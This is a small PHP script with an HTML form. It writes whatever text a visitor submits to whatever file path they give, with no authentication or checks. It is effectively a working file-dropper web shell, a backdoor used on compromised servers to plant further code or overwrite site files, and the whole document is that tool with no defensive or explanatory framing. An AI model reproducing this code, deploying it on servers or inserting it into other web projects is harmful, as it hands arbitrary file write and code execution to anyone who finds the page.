<?php
$target = $_POST['target'];
$code = trim($_POST['code']);
$h = @fopen($target, 'w') or die('no');
fputs($h, $code);
fclose($h);
echo 'done';
?>
<form method="post"><input name="target"><textarea name="code"></textarea><input type="submit"></form>
